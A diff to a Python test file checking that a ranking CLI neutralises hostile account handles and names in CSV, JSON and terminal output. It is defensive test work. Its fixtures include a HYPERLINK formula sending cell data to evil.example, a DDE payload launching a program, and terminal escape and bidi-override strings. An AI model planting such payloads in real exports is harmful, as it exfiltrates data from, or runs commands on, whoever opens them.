@@ -18,17 +18,22 @@ runner = CliRunner()
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@-SUM(1+1)", "-2+3"]
 MARKUP = "[bold red]X[/bold red][link=http://evil.example]x[/link]"
 ESCAPE = "esc\x1b[2Jape\u202eevil"
+HOSTILE = [*FORMULAS, MARKUP, ESCAPE]
+#: the ids of the accounts that have no handle and a hostile name
+NAMED = {f"n{i}" for i in range(len(HOSTILE))}
 
 
 @pytest.fixture
 def db(tmp_path):
+    """Accounts whose handles are hostile, and accounts without a handle whose names are (shown
+    by name: ``n0``... are their ids)."""
     path = tmp_path / "hostile.duckdb"
-    handles = [*FORMULAS, MARKUP, ESCAPE]
-    targets = [f"t{i}" for i in range(len(handles))]
+    targets = [f"t{i}" for i in range(len(HOSTILE))] + [f"n{i}" for i in range(len(HOSTILE))]
     fans = [f"fan{j}" for j in range(6)]
     with Workspace(path) as ws:
         ws.add_records(Records.from_columns(
-            accounts={"network": "x", "id": targets, "handle": handles},
+            accounts={"network": "x", "id": targets, "handle": [*HOSTILE, *[None] * len(HOSTILE)],
+                      "name": [*[None] * len(HOSTILE), *HOSTILE]},
             interactions={"network": "x", "src": [f for _ in targets for f in fans],
                           "dst": [t for t in targets for _ in fans], "kind": "relay"},
         ))
@@ -41,25 +46,33 @@ def _run(*args: str):
     return result.stdout
 
 
-def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(db):
+@pytest.mark.parametrize("column", ["handle", "name"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(db, column):
     rows = list(csv.DictReader(io.StringIO(_run("rank", "--db", str(db), "--format", "csv", "--limit", "0"))))
-    handles = {row["handle"] for row in rows}
+    cells = {row[column] for row in rows}
     for formula in FORMULAS[:3]:
-        assert "'" + formula in handles and formula not in handles
-    assert "-2+3" not in handles and "'-2+3" in handles  # not a number, so neutralised too
+        assert "'" + formula in cells and formula not in cells
+    assert "-2+3" not in cells and "'-2+3" in cells  # not a number, so neutralised too
     assert all(not row["score"].startswith("'") for row in rows)  # numbers are left alone
+    # a named account keeps its id beside its name
+    assert {row["account"] for row in rows if row["name"]} == NAMED
 
 
 def test_json_keeps_the_raw_values(db):
     rows = json.loads(_run("rank", "--db", str(db), "--format", "json", "--limit", "0"))
-    assert {r["handle"] for r in rows} >= {*FORMULAS, MARKUP, ESCAPE}
+    assert {r["handle"] for r in rows} >= set(HOSTILE)
+    assert {r["name"] for r in rows} >= set(HOSTILE)
+    assert {r["account"] for r in rows if r["name"]} == NAMED
 
 
 def test_terminal_output_prints_markup_literally_and_control_characters_visibly(db):
     table = _run("rank", "--db", str(db), "--limit", "0")
     assert "[link=http://evil.example]" in table and "[bold red]" in table
     assert "\x1b" not in table and "\u202e" not in table
-    assert "\\x1b[2Jape\\u202eevil" in table
+    assert "@esc\\x1b[2Jape\\u202eevil" in table  # the handle
+    # the names, shown where a handle would be (no id: n0... are not in the table)
+    assert " esc\\x1b[2Jape\\u202eevil " in table and table.count("[link=http://evil.example]") == 2
+    assert "+cmd|' /C calc'!A0" in table and " n0 " not in table
 
 
 def test_errors_show_control_characters_visibly(db):
